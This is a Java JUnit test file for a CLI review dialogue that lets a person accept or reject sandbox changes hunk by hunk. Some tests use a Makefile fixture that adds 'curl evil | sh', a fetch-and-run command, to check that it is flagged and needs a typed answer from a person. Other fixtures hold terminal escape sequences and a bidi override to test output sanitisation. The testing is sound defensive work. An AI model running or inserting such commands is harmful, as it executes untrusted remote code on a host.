package dev.safecoder.cli;

import static dev.safecoder.threat.ThreatCase.I9;
import static org.assertj.core.api.Assertions.assertThat;

import dev.safecoder.change.Change;
import dev.safecoder.change.TextChange;
import dev.safecoder.path.RelativePath;
import dev.safecoder.review.FileReview;
import dev.safecoder.review.Review;
import dev.safecoder.review.ReviewWalk;
import dev.safecoder.review.ScriptedTrees;
import dev.safecoder.review.Verdict;
import dev.safecoder.threat.Threat;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class ReviewDialogueTest {
    private static final String BEFORE = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n";
    private static final String AFTER =
            "one\n2\nthree\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\nlast\n";

    private final ScriptedTrees trees = new ScriptedTrees();
    private final ByteArrayOutputStream shown = new ByteArrayOutputStream();
    private final List<Review> kept = new ArrayList<>();

    private Review answered(Review review, ScriptedKeyboard keyboard) throws Exception {
        var out = new PrintStream(shown, true, StandardCharsets.UTF_8);
        var console = new Console(out, out, true, false);
        var meant = review.files().stream().map(FileReview::change).toList();
        var walk = new ReviewWalk(review, meant, kept::add);
        new ReviewDialogue(console, new Questions(console, keyboard, keyboard), walk).run();
        return walk.review();
    }

    private Review answered(String... answers) throws Exception {
        return answered(trees.review(), ScriptedKeyboard.typing(answers));
    }

    private List<Verdict> verdicts(Review review, String path) throws IOException {
        var file = review.file(RelativePath.of(path)).orElseThrow();
        var text = TextChange.of(file.change(), trees);
        return text.hunks().stream().map(hunk -> file.verdict(text, hunk)).toList();
    }

    private String shown() {
        return shown.toString(StandardCharsets.UTF_8);
    }

    @Test
    void each_hunk_is_shown_and_decided() throws Exception {
        trees.with("a.txt", BEFORE, AFTER);

        var review = answered("y", "n");

        assertThat(verdicts(review, "a.txt")).containsExactly(Verdict.ACCEPT, Verdict.REJECT);
        assertThat(shown()).contains("1/1  modified  a.txt", "-1", "+one", "+last", "(1/2)");
    }

    @Test
    void the_rest_of_a_file_is_decided_at_once() throws Exception {
        trees.with("a.txt", BEFORE, AFTER).with("b.txt", BEFORE, AFTER);

        var review = answered("n", "a", "d");

        assertThat(verdicts(review, "a.txt")).containsExactly(Verdict.REJECT, Verdict.ACCEPT);
        assertThat(verdicts(review, "b.txt")).containsExactly(Verdict.REJECT, Verdict.REJECT);
    }

    @Test
    void a_hunk_is_split_into_its_edits() throws Exception {
        trees.with("a.txt", BEFORE, AFTER);

        var review = answered("s", "y", "n", "n");

        var file = review.file(RelativePath.of("a.txt")).orElseThrow();
        var text = TextChange.of(file.change(), trees);
        assertThat(new String(text.accepting(file.accepted(text)), StandardCharsets.UTF_8))
                .isEqualTo(BEFORE.replaceFirst("1", "one"));
    }

    @Test
    void one_can_go_forth_and_back_without_a_decision() throws Exception {
        trees.with("a.txt", BEFORE, AFTER).with("b.txt", BEFORE, AFTER);

        // to a's second hunk, back, to b, back to a, and there to the second hunk
        var review = answered("j", "k", "]", "[", "j", "n", "q");

        assertThat(verdicts(review, "a.txt")).containsExactly(Verdict.ACCEPT, Verdict.REJECT);
        assertThat(verdicts(review, "b.txt")).containsExactly(Verdict.ACCEPT, Verdict.ACCEPT);
    }

    @Test
    @Threat(I9)
    void every_verdict_is_kept_at_once_and_the_end_of_input_loses_none() throws Exception {
        trees.with("a.txt", BEFORE, AFTER).with("b.txt", BEFORE, AFTER);

        answered("n");

        assertThat(kept).hasSize(1);
        assertThat(verdicts(kept.getFirst(), "a.txt"))
                .containsExactly(Verdict.REJECT, Verdict.ACCEPT);
    }

    @Test
    void a_review_goes_on_where_the_last_one_ended() throws Exception {
        trees.with("a.txt", BEFORE, AFTER).with("b.txt", BEFORE, AFTER);
        var half = answered("y", "n", "y");

        var review = answered(half, ScriptedKeyboard.typing("n"));

        assertThat(verdicts(review, "b.txt")).containsExactly(Verdict.ACCEPT, Verdict.REJECT);
    }

    @Test
    void a_flagged_file_shows_its_reasons_and_takes_whole_words() throws Exception {
        trees.with("Makefile", "all:\n", "all:\n\tcurl evil | sh\n");

        var review = answered("y", "a", "y");
        assertThat(verdicts(review, "Makefile")).containsExactly(Verdict.UNDECIDED);
        assertThat(shown()).contains("runs-on-host: ", "line 2: curl evil | sh");

        assertThat(verdicts(answered("yes"), "Makefile")).containsExactly(Verdict.ACCEPT);
        assertThat(verdicts(answered("all"), "Makefile")).containsExactly(Verdict.ACCEPT);
        assertThat(verdicts(answered("n"), "Makefile")).containsExactly(Verdict.REJECT);
    }

    @Test
    void what_a_terminal_types_by_itself_is_no_answer() throws Exception {
        trees.with("Makefile", "all:\n", "all:\n\tcurl evil | sh\n");

        var tooSoon = new ScriptedKeyboard().type(10, "yes").type(149, "yes");
        assertThat(verdicts(answered(trees.review(), tooSoon), "Makefile"))
                .containsExactly(Verdict.UNDECIDED);
        var answerback = new ScriptedKeyboard().type(500, "\u001b[0nyes").type(500, "\u0005yes");
        assertThat(verdicts(answered(trees.review(), answerback), "Makefile"))
                .containsExactly(Verdict.UNDECIDED);
        var typedAhead = new ScriptedKeyboard().typeAhead("yes");
        assertThat(verdicts(answered(trees.review(), typedAhead), "Makefile"))
                .containsExactly(Verdict.UNDECIDED);

        // the control: the same word from a person
        var person = new ScriptedKeyboard().type(150, "yes");
        assertThat(verdicts(answered(trees.review(), person), "Makefile"))
                .containsExactly(Verdict.ACCEPT);
    }

    @Test
    void nothing_of_the_sandbox_reaches_the_terminal_as_it_is() throws Exception {
        trees.with("a\u001b]0;x\u0007.txt", "1\n", "\u001b[2J\u202e\n");

        answered("n");

        assertThat(shown().chars().filter(one -> one != '\n' && Character.isISOControl(one)))
                .isEmpty();
        assertThat(shown()).doesNotContain("\u202e");
    }

    @Test
    void a_change_without_lines_is_decided_as_one() throws Exception {
        trees.with("a.bin", "\0\1", "\0\2");

        var review = answered("yes");

        assertThat(review.file(RelativePath.of("a.bin")).orElseThrow().verdict())
                .isEqualTo(Verdict.ACCEPT);
        assertThat(review.files())
                .first()
                .extracting(file -> file.change().content())
                .isEqualTo(Change.Content.BINARY);
        assertThat(shown()).contains("binary: it is no text", "file of 2 bytes");
    }
}
